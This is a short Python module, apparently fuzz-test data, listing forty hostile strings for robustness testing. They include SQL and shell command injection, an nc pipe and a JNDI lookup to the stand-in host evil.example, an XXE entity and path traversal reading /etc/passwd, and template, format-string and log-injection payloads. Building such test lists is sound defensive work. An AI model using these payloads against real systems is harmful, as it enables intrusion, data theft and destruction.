"""Forty strings that break programs which take text for granted: each is only text, wherever it is put."""

from __future__ import annotations

HOSTILE = [
    "", " ", "\x00", "\x1b[31mred\x1b[0m", "a\r\nX-Injected: yes", "a\nlevel=error event=forged", "\u202eevil\u202c", "\ufeffbom", "\ufffe",
    "\U0001f4a9" * 8,
    "<script>alert(1)</script>", "]]>", "&lol;", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "<!--", "<?xml version='1.0'?>",
    "' OR 1=1 --", '"; DROP TABLE users; --', "%00", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "{{7*7}}", "${jndi:ldap://evil.example/x}", "#{7*7}", "$(touch /tmp/owned)", "`id`", "; cat /etc/passwd", "| nc evil.example 1", "-rf",
    "--json", "@/etc/passwd", "%s%s%s%n", "{0.__class__.__mro__}", "NaN", "1e999", "-9223372036854775809", "\\u0000\\ud800", "a" * 100_000,
    'label="x"} 1\nmf_forged{a="',
]  # fmt: skip
assert len(HOSTILE) == 40
